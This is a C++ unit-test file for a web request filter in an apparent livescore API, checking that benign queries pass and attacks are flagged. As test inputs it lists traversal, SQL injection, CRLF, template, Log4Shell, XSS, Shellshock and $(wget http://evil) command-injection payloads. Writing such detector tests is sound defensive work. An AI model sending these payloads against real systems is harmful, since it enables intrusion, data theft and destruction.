#include "api/gate/request_shield.h"

#include <gtest/gtest.h>

#include <string>
#include <utility>
#include <vector>

namespace livescore {
namespace {

std::string verdict_on(std::string_view target) {
    shielded_request request;
    request.target = target;
    const char* kind = suspicious(request);
    return kind ? kind : "";
}

TEST(RequestShield, OrdinaryRequestsPass) {
    for (const char* target :
         {"/",
          "/api/matches",
          "/api/matches/12/commentary?limit=100",
          "/api/matches/12/events?since=41&wait=30",
          "/api/matches?team=O%27Brien%27s%20XI",
          "/api/matches?league=Cup%20%26%20Shield",
          "/api/matches?team=Union+Berlin",
          "/api/matches?team=Select+United&league=Drop+Zone",
          "/api/matches?team=1.%20FC%20K%C3%B6ln",
          "/api/matches?timezone=Europe/Berlin&date=2026-11-21",
          "/livescore.js",
          "/api/matches?team=Sleep(less)%20Rovers",
          "/api/matches?team=A%20%3C%203",
          "/api/matches?cursor=eyJpZCI6MX0%3D",
          "/api/matches?team=Real%20%22B%22%20or%20C",
          "/api/matches?from=2026-11-21T20:40:59.000Z&to=2026-11-22T00:00:00%2B01:00",
          "/health/ready",
          "/ws",
          "/favicon.ico",
          "/api/matches?team=Table...+Toppers"})
        EXPECT_EQ(verdict_on(target), "") << target;
}

TEST(RequestShield, AttacksAreSeenHoweverTheyAreWritten) {
    const std::vector<std::pair<const char*, const char*>> attacks{
        {"/../../etc/passwd", "traversal"},
        {"/api/matches/../../secret", "traversal"},
        {"/api/matches/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "traversal"},
        {"/api/matches/%252e%252e%252fsecret", "traversal"},
        {"/api/matches/..%5c..%5cboot.ini", "traversal"},
        {"/api/matches?file=/etc/passwd", "traversal"},
        {"/api/matches/1%00", "control_character"},
        {"/api/matches/1%2500.json", "control_character"},
        {"/api/matches?team=a%0d%0aSet-Cookie:x", "control_character"},
        {"/api/matches?team=x'%20OR%20'1'='1", "sql"},
        {"/api/matches?team=x%27+or+1%3D1--", "sql"},
        {"/api/matches/1%20UNION%20SELECT%20username,password%20FROM%20users", "sql"},
        {"/api/matches/1/**/union/**/all/**/select/**/null,null", "sql"},
        {"/api/matches?team=x';DROP%20TABLE%20matches;--", "sql"},
        {"/api/matches?id=1;select%20pg_sleep(10)", "sql"},
        {"/api/matches?team=a%27%20AND%20SLEEP(5)", "sql"},
        {"/api/matches?id=1%20from%20information_schema.tables", "sql"},
        {"/api/matches?team={{7*7}}", "template"},
        {"/api/matches?team=%24%7Bjndi:ldap://evil/a%7D", "template"},
        {"/api/matches?team=${7*7}", "template"},
        {"/api/matches?team=%3C%25%3D7*7%25%3E", "template"},
        {"/api/matches?team=%3Cscript%3Ealert(1)%3C/script%3E", "script"},
        {"/?q=%253Cscript%253E", "script"},
        {"/.env", "probe"},
        {"/.git/config", "probe"},
        {"/wp-login.php", "probe"},
        {"/wp-admin/", "probe"},
        {"/index.php?x=1", "probe"},
        {"/cgi-bin/test", "probe"},
        {"/api/matches?x=$(wget%20http://evil)", "probe"},
        {"/api/matches?x=1;cat%20/x", "probe"},
    };
    for (const auto& [target, kind] : attacks) EXPECT_EQ(verdict_on(target), kind) << target;
}

TEST(RequestShield, HeadersAreLookedAtForTemplatesAndScripts) {
    shielded_request request;
    request.target = "/api/matches";
    request.user_agent = "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0";
    request.referer = "https://example.com/?q=where+a+or+b%27";
    request.cookie = "theme=dark; name=O'Brien or 'x'";
    EXPECT_EQ(suspicious(request), nullptr);
    request.user_agent = "${jndi:ldap://evil/a}";
    EXPECT_STREQ(suspicious(request), "template");
    request.user_agent = "() { :; }; /bin/bash -c 'id'";
    EXPECT_STREQ(suspicious(request), "probe");
    request.user_agent = {};
    request.referer = "https://x/<script>alert(1)</script>";
    EXPECT_STREQ(suspicious(request), "script");
    request.referer = {};
    request.x_forwarded_host = "{{7*7}}";
    EXPECT_STREQ(suspicious(request), "template");
}

TEST(RequestShield, AnyBytesAndLengthsMayCome) {
    std::string target = "/?";
    for (int i = 1; i < 256; ++i) target += static_cast<char>(i);
    EXPECT_NE(verdict_on(target), "");
    EXPECT_EQ(verdict_on("/api/matches?team=" + std::string(8000, '%')), "");
    EXPECT_EQ(verdict_on("/api/matches?team=%"), "");
    EXPECT_EQ(verdict_on("/api/matches?team=%2"), "");
    EXPECT_EQ(verdict_on(""), "");
}

}  // namespace
}  // namespace livescore
